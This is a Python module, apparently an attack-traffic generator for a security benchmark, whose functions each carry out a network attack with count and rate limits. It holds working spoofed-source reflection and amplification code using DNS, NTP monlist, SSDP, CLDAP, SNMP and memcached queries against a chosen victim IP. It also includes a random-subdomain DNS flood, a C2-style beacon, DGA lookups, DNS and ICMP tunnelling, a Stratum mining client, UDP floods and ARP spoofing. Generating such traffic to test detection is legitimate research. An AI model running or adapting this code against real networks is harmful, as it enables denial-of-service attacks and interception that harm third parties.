"""What an attacker does by a script, run in a namespace as `python -m benchmarks.attacks.callers FUNCTION WORDS...`: each bounded in count and in time."""
from __future__ import annotations

import json
import os
import random
import socket
import string
import struct
import sys
import time
from collections.abc import Iterator

QUESTIONS = {
    "ntp": b"\x17\x00\x03\x2a" + bytes(4), "chargen": b"\x00",
    "ssdp": b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n',
    "cldap": bytes.fromhex("30840000002d02010763840000002404000a01000a0100020100020100010100870b6f626a656374636c617373308400000000"),
    "snmp": bytes.fromhex("302602010104067075626c6963a5190204000000010201000202" "00fa300b300906052b060102010500"),
    "memcached": b"\x00\x01\x00\x00\x00\x01\x00\x00get big\r\n",
}
"""What is asked of a reflector: monlist, a line, a search, the root DSE, a bulk of MIB-2, a large value."""
PORTS = {"dns": 53, "ntp": 123, "ssdp": 1900, "cldap": 389, "chargen": 19, "snmp": 161, "memcached": 11211}


def paced(count: int, rate: float) -> Iterator[int]:
    """Numbers to `count`, so many a second."""
    began = time.monotonic()
    for one in range(count):
        time.sleep(max(0.0, began + one / rate - time.monotonic()))
        yield one


def question(name: str, kind: int, size: int = 0) -> bytes:
    """A DNS question; with `size` the bytes that EDNS allows for the answer."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    extra = b"\x00\x00\x29" + struct.pack(">HIH", size, 0, 0) if size else b""
    return struct.pack(">6H", random.getrandbits(16), 0x0100, 1, 0, 0, bool(size)) + labels + b"\x00" + struct.pack(">HH", kind, 1) + extra


def word(length: int) -> str:
    """Letters and digits without sense."""
    return "".join(random.choices(string.ascii_lowercase + string.digits, k=length))


def checksum(data: bytes) -> int:
    """The internet checksum (RFC 1071)."""
    total = sum(struct.unpack(f">{len(data) // 2}H", data[:len(data) & ~1])) + (data[-1] << 8 if len(data) & 1 else 0)
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def reflect(kind: str, victim: str, count: str, rate: str, *reflectors: str) -> None:
    """Ask reflectors in the victim's name."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        for one in paced(int(count), float(rate)):
            where = reflectors[one % len(reflectors)]
            asked = question("example.org", 16, 4096) if kind == "dns" else QUESTIONS[kind]
            length = 8 + len(asked)
            pseudo = socket.inet_aton(victim) + socket.inet_aton(where) + struct.pack(">BBH", 0, 17, length)
            head = struct.pack(">HHHH", 1024 + random.getrandbits(14), PORTS[kind], length, 0)
            sealed = head[:6] + struct.pack(">H", checksum(pseudo + head + asked) or 0xFFFF) + asked
            out.sendto(struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + length, random.getrandbits(16), 0, 64, 17, 0, socket.inet_aton(victim),
                                   socket.inet_aton(where)) + sealed, (where, 0))


def questions(server: str, zone: str, count: str, rate: str) -> None:
    """A flood of questions about names that don't exist, from many ports."""
    sockets = [socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) for _ in range(64)]
    for one in sockets:
        one.setblocking(False)
    for number in paced(int(count), float(rate)):
        sockets[number % 64].sendto(question(f"{word(12)}.{zone}", 1), (server, 53))


def beacon(server: str, port: str, every: str, jitter: str, seconds: str) -> None:
    """Call a server, say a little, hear a little, hang up; again after `every` seconds give or take a part of it."""
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        with socket.create_connection((server, int(port)), 5) as call:
            call.sendall(os.urandom(96))
            call.recv(4096)
        time.sleep(float(every) * (1 + random.uniform(-1, 1) * float(jitter)))


def generated(server: str, count: str, rate: str) -> None:
    """Ask for names of an algorithm's making, of which none exists."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(0.5)
        for _ in paced(int(count), float(rate)):
            out.sendto(question(f"{word(random.randint(10, 18))}.{random.choice(('com', 'net', 'org', 'info', 'biz'))}", 1), (server, 53))
            out.recv(512)


def spelled(server: str, zone: str, count: str, rate: str) -> None:
    """Say a file to the server of a zone in names, a label of 60 letters at a time."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(0.5)
        for one in paced(int(count), float(rate)):
            out.sendto(question(f"{os.urandom(30).hex()}.{os.urandom(30).hex()}.{one}.{zone}", 1), (server, 53))
            out.recv(512)


def miner(pool: str, port: str, seconds: str) -> None:
    """Stratum: subscribe, authorise, a share every two seconds."""
    end = time.monotonic() + float(seconds)
    with socket.create_connection((pool, int(port)), 5) as call:
        def say(number: int, method: str, *params: object) -> None:
            call.sendall(json.dumps({"id": number, "method": method, "params": params}).encode() + b"\n")
            call.recv(65536)
        say(1, "mining.subscribe", "cpuminer/2.5.1")
        say(2, "mining.authorize", "wallet.worker1", "x")
        number = 3
        while time.monotonic() < end:
            time.sleep(2)
            say(number, "mining.submit", "wallet.worker1", "ae68", "00000001", f"{int(time.time()):08x}", os.urandom(4).hex())
            number += 1


def bursts(server: str, port: str, count: str) -> None:
    """Bursts of 1500 datagrams of 1400 bytes as fast as they go, five seconds apart."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        for _ in range(int(count)):
            for _ in range(1500):
                out.sendto(bytes(1400), (server, int(port)))
            time.sleep(5)


def echoes(server: str, count: str, rate: str, size: str) -> None:
    """A tunnel in ping: echo requests whose content is never twice the same."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as out:
        for one in paced(int(count), float(rate)):
            body = struct.pack(">BBHHH", 8, 0, 0, 0x4242, one & 0xFFFF) + os.urandom(random.randint(int(size) // 2, int(size)))
            out.sendto(body[:2] + struct.pack(">H", checksum(body)) + body[4:], (server, 0))


def gratuitous(device: str, claimed: str, count: str, rate: str) -> None:
    """ARP replies nobody asked for that say `claimed` is here (RFC 826), to all."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((device, 0))
        mine = out.getsockname()[4]
        said = struct.pack(">HHBBH", 1, 0x0800, 6, 4, 2) + mine + socket.inet_aton(claimed) + b"\xff" * 6 + socket.inet_aton(claimed)
        for _ in paced(int(count), float(rate)):
            out.send(b"\xff" * 6 + mine + b"\x08\x06" + said.ljust(46, b"\x00"))


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
